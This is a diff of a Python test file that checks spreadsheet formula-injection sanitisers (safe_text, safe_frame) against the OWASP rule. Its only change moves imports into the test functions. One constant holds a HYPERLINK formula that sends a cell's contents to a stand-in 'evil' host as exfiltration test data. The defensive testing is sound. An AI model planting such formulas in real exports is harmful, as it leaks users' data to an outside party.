@@ -25,8 +25,6 @@ from _projects import leaf, node, write_project  # noqa: E402
 sys.path.insert(0, str(Path(__file__).resolve().parent))
 from _cli import run_cli  # noqa: E402
 
-from evalkit.output import safe_frame, safe_text  # noqa: E402
-
 EVIL = '=HYPERLINK("http://evil/?x="&A1,"click")'
 LEAD = ("=", "+", "-", "@", "\t", "\r")
 NUMBER = r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?"
@@ -125,10 +123,14 @@ def test_templates_of_neutralised_codes_merge_back(written):
     ("\rx", "'\rx"), ("-", "'-"), ("-3.5", "-3.5"), ("+2", "+2"), ("-1e-5", "-1e-5"), ("a=b", "a=b"), ("", ""),
     ("'=x", "'=x"), (-3.5, -3.5), (None, None), (True, True)])
 def test_safe_text_follows_the_owasp_rule(value, expected):
+    from evalkit.output import safe_text
+
     assert safe_text(value) == expected
 
 
 def test_safe_frame_leaves_numbers_and_clean_text_alone():
+    from evalkit.output import safe_frame
+
     df = pd.DataFrame({"unit": ["=a", "b"], "score": [-1.5, 2.0], "rank": pd.array([1, None], dtype="Int64"),
                        "=col": [True, False]})
     out = safe_frame(df)
